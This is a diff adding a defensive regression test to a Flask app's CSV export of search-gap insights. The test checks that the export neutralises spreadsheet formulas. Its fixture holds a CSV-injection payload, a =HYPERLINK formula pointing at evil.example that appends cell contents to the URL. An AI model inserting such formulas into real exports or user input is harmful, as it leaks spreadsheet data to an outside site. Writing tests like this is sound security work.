@@ -130,6 +130,33 @@ def test_csv_export(client: FlaskClient, logged: int) -> None:
     assert rows[1][:2] == ["searches", "5"]
 
 
+def test_csv_cells_are_text_never_formulas(
+    client: FlaskClient, store: Store, people: dict[str, Any]
+) -> None:
+    """Anyone may search; four visitors' formula reached the analyst's spreadsheet
+    as a live `=HYPERLINK`, which sends the sheet's cells to another site."""
+    from kb.accounts.service import add_user
+
+    add_user(store, "anna", "analyst", None)
+    formula = '=hyperlink("http://evil.example/?"&a2,"details")'  # as the log folds it
+    for user in "abcd":
+        event = SearchEvent(
+            query=formula, answered=False, user=user, lang="en", department="hr", ts=earlier_today()
+        )
+        store.log_search(event)
+    gaps = insights_store(store)
+    gaps.refresh()
+    topic = gaps.save_topic(GapTopic(label=formula, department="hr", centroid=np.ones(4)))
+    question = GapQuestion(text=formula, lang="en", model="m", vector=np.ones(4), topic_id=topic.id)
+    gaps.save_gap_questions([question])
+    sign_in_as(client, "anna")
+    text = client.get("/api/insights/gaps?format=csv").get_data(as_text=True)
+    header, row = list(csv.reader(io.StringIO(text)))
+    assert row[header.index("label")] == "'" + formula
+    assert row[header.index("queries")] == "'" + formula
+    assert client.get("/api/insights/gaps").get_json()["topics"][0]["label"] == formula
+
+
 def test_assigning_a_gap_puts_it_on_the_department_s_page(client: FlaskClient, logged: int) -> None:
     token = sign_in_as(client, "anna")
     url = f"/api/insights/gaps/{logged}/assign"
